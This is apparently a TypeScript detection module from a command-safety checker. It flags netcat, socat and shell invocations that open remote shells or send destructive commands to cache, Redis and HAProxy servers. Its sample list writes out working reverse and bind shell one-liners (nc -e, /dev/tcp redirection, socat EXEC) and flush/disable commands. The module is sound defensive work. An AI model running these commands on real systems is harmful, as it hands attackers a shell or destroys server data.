import type { Finding } from '../core/effect.ts';
import { isKnown, type Invocation } from '../core/invocation.ts';
import type { Payload, Provider, TargetSource } from '../core/provider.ts';
import { parseArgs } from '../shell/argv.ts';
import { urlClue } from '../targets/database-target.ts';
import { SHELLS } from '../shell/wrappers.ts';

// Sources: nc(1), ncat(1), socat(1); memcached's protocol.txt; redis.io (inline commands); haproxy's management guide, section 9; level doc.
const VALUED = new Set('-p -s -w -q -X -x -i -T -O -I -e -c --exec --sh-exec --wait --source-port -G -o -b'.split(' '));
/** What servers that take plain text lose or give up at one line. */
const LOSES = /^(?:flush_all\b|flush(?:all|db)\b|(?:del|delete|unlink)\s+\S|shutdown\b|(?:disable|shutdown|set)\s+(?:server|frontend|backend|sessions|state)\b|config\s+set\b|stop\b|kill\b|DELETE\s+\/)/im;

function inspect({ argv, stdin, redirects }: Invocation): readonly Finding[] {
  const [program = ''] = argv;
  if (SHELLS.has(program)) return redirects.some(({ path }) => /^\/dev\/(?:tcp|udp)\//.test(path)) ? [handed()] : [];
  const args = parseArgs(argv, VALUED);
  const handsOut = args.has('-e', '-c', '--exec', '--sh-exec') && program !== 'telnet' ? (args.value('-e', '-c', '--exec', '--sh-exec') ?? '') !== '' : argv.some((word) => /(?:^|,)(?:exec|system|shell):/i.test(word) && program === 'socat');
  if (handsOut) return [handed()];
  if (stdin.kind === 'text' && LOSES.test(stdin.text)) return [{ effect: 'destroys-data', provider: 'netcat', operation: 'command', act: 'Send a destructive line to server', says: 'It empties or stops what listens there. Cannot be undone.', clues: [] }];
  return [];
}

function handed(): Finding {
  return { effect: 'permissions', provider: 'netcat', operation: 'shell', act: 'Hand a shell to whoever is at the other end', says: 'They can do here what you can do.', clues: [] };
}

/** The host, or the socket of a program on this machine, which may be a server's. */
const target: TargetSource = ({ argv, remote }) => {
  if (remote !== undefined || SHELLS.has(argv[0] ?? '')) return undefined;
  const words = parseArgs(argv, VALUED).positionals;
  const address = argv[0] === 'socat' ? words.flatMap((word) => /^(?:tcp[46]?|openssl|ssl)(?:-connect)?:([^:,]{1,255})/i.exec(word)?.[1] ?? [])[0] : words[0];
  return address === undefined || address.startsWith('/') ? undefined : urlClue(isKnown(address) ? address : '', 'the address', { source: 'address' });
};

/** What `socat` starts, and what `nc -c` gives to a shell. */
function payloads({ argv }: Invocation): readonly Payload[] {
  return argv[0] === 'socat' ? argv.flatMap((word): Payload[] => (/^(?:system|shell):/i.test(word) ? [{ language: 'shell', text: word.slice(word.indexOf(':') + 1) }] : [])) : [];
}

export default {
  id: 'netcat',
  title: 'Plain connections',
  executables: ['nc', 'ncat', 'netcat', 'socat', 'telnet', ...SHELLS],
  target: [target],
  inspect,
  payloads,
  samples: {
    sees: [
      [`printf 'flush_all\\r\\n' | nc cache.example.com 11211`, 'netcat/command', 'unknown'],
      [`echo FLUSHALL | nc redis-prod 6379`, 'netcat/command', 'production'],
      [`echo "disable server web/web1" | socat stdio /var/run/haproxy.sock`, 'netcat/command', 'unknown'],
      [`nc -e /bin/sh 10.0.0.5 4444`, 'netcat/shell', 'unknown'],
      [`ncat -lvp 4444 --sh-exec bash`, 'netcat/shell', 'unknown'],
      [`bash -i >& /dev/tcp/10.0.0.5/4444 0>&1`, 'netcat/shell', 'unknown'],
      [`socat TCP:10.0.0.5:4444 EXEC:/bin/bash`, 'netcat/shell', 'unknown'],
    ],
    leaves: ['nc -z localhost 5432', 'nc -vz db.example.com 5432', `echo stats | nc cache.example.com 11211`, `printf 'flush_all\\r\\n' | nc localhost 11211`, `printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc example.com 80`, 'telnet localhost 25', 'socat -V', `echo "show stat" | socat stdio /var/run/haproxy.sock`, 'nc -l 8080', '(echo > /dev/tcp/localhost/5432) 2>/dev/null', 'bash -c "echo > /dev/tcp/db/5432"'],
  },
} satisfies Provider;
